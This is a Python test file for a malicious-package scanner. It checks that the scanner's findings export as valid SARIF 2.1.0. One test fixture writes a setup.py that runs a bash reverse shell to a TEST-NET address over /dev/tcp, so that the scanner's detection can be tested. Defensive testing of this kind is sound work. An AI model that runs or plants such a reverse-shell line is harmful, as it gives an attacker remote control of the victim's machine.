"""SARIF 2.1.0 output, validated against the official schema (tests/analysis/data)."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import jsonschema
import pytest

from package_analysis.analysis.model import Artifact, ChainStep, Finding, PackageRef, Report
from package_analysis.analysis.pipeline import Limits, analyze_file
from package_analysis.analysis.sarif import to_sarif

from . import archives

SCHEMA = json.loads((Path(__file__).parent / "data" / "sarif-schema-2.1.0.json").read_text())
VALIDATOR = jsonschema.Draft7Validator(
    SCHEMA, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER
)
REV = "bash -i >& " + "/dev/tcp/" + "203.0.113.7" + "/4444 0>&1"  # TEST-NET address


def _finding(rule: str, severity: str, file: str, line: int | None, **kw: str) -> Finding:
    return Finding(
        rule=rule,
        title=f"title of {rule}",
        category=kw.get("category", "process"),
        severity=severity,  # type: ignore[arg-type]
        file=file,
        line=line,
        snippet=kw.get("snippet", "os.system('x')"),
        reachability=kw.get("reachability", "install"),  # type: ignore[arg-type]
        explanation="why it matters",
        artifact="a" * 64,
    )


def test_findings_map_to_rules_results_and_levels() -> None:
    report = Report(
        verdict="malicious",
        score=9.1,
        package=PackageRef("npm", "@demo/x", "1.0.0", "pkg:npm/%40demo/x@1.0.0"),
        artifacts=[Artifact("x-1.0.0.tgz", "a" * 64, 1234)],
        findings=[
            _finding("R-CRIT", "critical", "package/install.js", 3),
            _finding("R-LOW", "low", "package/package.json", None, reachability="metadata"),
            _finding("R-CRIT", "high", "package/lib/ün icode#1.js", 7, snippet="ü" * 400),
            _finding("R-MED", "medium", "package/test/t.js", 1, reachability="test"),
        ],
        rules_version="r1",
    )
    log = to_sarif(report)
    VALIDATOR.validate(log)
    (run,) = log["runs"]
    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == ["R-CRIT", "R-LOW", "R-MED"]
    assert [r["defaultConfiguration"]["level"] for r in run["tool"]["driver"]["rules"]] == [
        "error",
        "note",
        "warning",
    ]
    assert [(r["ruleId"], r["ruleIndex"], r["level"]) for r in run["results"]] == [
        ("R-CRIT", 0, "error"),
        ("R-LOW", 1, "note"),
        ("R-CRIT", 0, "error"),
        ("R-MED", 2, "warning"),
    ]
    first = run["results"][0]
    assert first["locations"][0]["physicalLocation"] == {
        "artifactLocation": {"uri": "package/install.js"},
        "region": {"startLine": 3, "snippet": {"text": "os.system('x')"}},
    }
    assert first["properties"] == {
        "severity": "critical",
        "category": "process",
        "reachability": "install",
        "artifact": "a" * 64,
        "artifactKind": "npm tarball",
    }
    assert "relatedLocations" not in first and "occurrenceCount" not in first
    no_line = run["results"][1]
    assert "region" not in no_line["locations"][0]["physicalLocation"]
    assert no_line["properties"]["snippet"] == "os.system('x')"
    odd = run["results"][2]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert odd == "package/lib/%C3%BCn%20icode%231.js"
    assert run["artifacts"] == [
        {
            "location": {"uri": "x-1.0.0.tgz"},
            "length": 1234,
            "hashes": {"sha-256": "a" * 64},
            "roles": ["analysisTarget"],
        }
    ]
    assert run["properties"]["verdict"] == "malicious"
    assert len({r["partialFingerprints"]["packamalFinding/v1"] for r in run["results"]}) == 4


def test_a_chain_a_multi_line_call_a_decoded_payload_and_repeats_travel_in_sarif() -> None:
    sdist, wheel = "b" * 64, "c" * 64
    chained = Finding(
        rule="PY-DECODE-EXEC",
        title="Executes a decoded payload",
        category="obfuscation",
        severity="critical",
        file="demo-1.0/setup.py",
        line=4,
        end_line=6,
        snippet="exec(\n    base64.b64decode(blob)\n)",
        reachability="install",
        explanation="why",
        artifact=sdist,
        chain=(
            ChainStep("source", "demo-1.0/setup.py", 2, 'blob = "cHJpbnQoMSk="'),
            ChainStep("transform", "demo-1.0/setup.py", 5, "base64.b64decode(blob)"),
            ChainStep("sink", "demo-1.0/setup.py", 4, "exec("),
        ),
        decoded="print(1)",
    )
    repeated = dataclasses.replace(
        _finding("R-LOW", "low", "demo/x.py", 9), artifact=wheel, count=3
    )
    report = Report(
        "malicious",
        9.0,
        PackageRef("pypi", "demo", "1.0", "pkg:pypi/demo@1.0"),
        [Artifact("demo-1.0.tar.gz", sdist, 10), Artifact("demo-1.0-py3-none-any.whl", wheel, 9)],
        [chained, repeated],
        "r1",
    )
    log = to_sarif(report)
    VALIDATOR.validate(log)
    first, second = log["runs"][0]["results"]
    region = first["locations"][0]["physicalLocation"]["region"]
    assert (region["startLine"], region["endLine"]) == (4, 6)
    assert region["snippet"]["text"] == chained.snippet
    assert first["properties"]["decoded"] == "print(1)"
    assert first["properties"]["artifactKind"] == "sdist"
    related = first["relatedLocations"]
    assert [loc["properties"]["role"] for loc in related] == ["source", "transform", "sink"]
    assert [loc["physicalLocation"]["region"]["startLine"] for loc in related] == [2, 5, 4]
    assert related[0]["message"]["text"] == 'source: blob = "cHJpbnQoMSk="'
    (flow,) = first["codeFlows"][0]["threadFlows"]
    assert [step["kinds"] for step in flow["locations"]] == [["source"], ["transform"], ["sink"]]
    assert [step["executionOrder"] for step in flow["locations"]] == [1, 2, 3]
    assert second["occurrenceCount"] == 3 and second["properties"]["artifactKind"] == "wheel"
    # One fingerprint keeps its value when only the line moves, the other does not.
    moved = to_sarif(dataclasses.replace(report, findings=[dataclasses.replace(chained, line=40)]))
    again = moved["runs"][0]["results"][0]["partialFingerprints"]
    assert (
        again["packamalFindingNoLine/v1"]
        == first["partialFingerprints"]["packamalFindingNoLine/v1"]
    )
    assert again["packamalFinding/v1"] != first["partialFingerprints"]["packamalFinding/v1"]


def test_a_real_report_is_valid_sarif(tmp_path: Path, limits: Limits) -> None:
    bad = archives.tar_gz(
        tmp_path / "bad-1.0.tar.gz",
        {
            "bad-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: bad\nVersion: 1.0\n",
            "bad-1.0/setup.py": (
                "from setuptools import setup\nimport os\nos.system('" + REV + "')\n"
            ).encode(),
        },
    )
    report = analyze_file(bad, limits=limits)
    assert report.verdict == "malicious"
    clean = analyze_file(archives.sdist(tmp_path / "demo_pkg-1.2.3.tar.gz"), limits=limits)
    log = to_sarif([report, clean])
    VALIDATOR.validate(log)
    results = log["runs"][0]["results"]
    assert any(
        r["locations"][0]["physicalLocation"].get("region", {}).get("startLine") == 3
        and r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "bad-1.0/setup.py"
        for r in results
    )


def test_the_schema_rejects_what_it_should() -> None:
    """The validator is not vacuous: a broken log fails."""
    log = to_sarif(Report("clean", 0.0, PackageRef("pypi", "x", "1", "pkg:pypi/x@1"), [], [], "r1"))
    VALIDATOR.validate(log)
    log["runs"][0]["results"] = [{"ruleId": "X", "level": "fatal", "message": {"text": "m"}}]
    with pytest.raises(jsonschema.ValidationError, match="'fatal' is not one of"):
        VALIDATOR.validate(log)
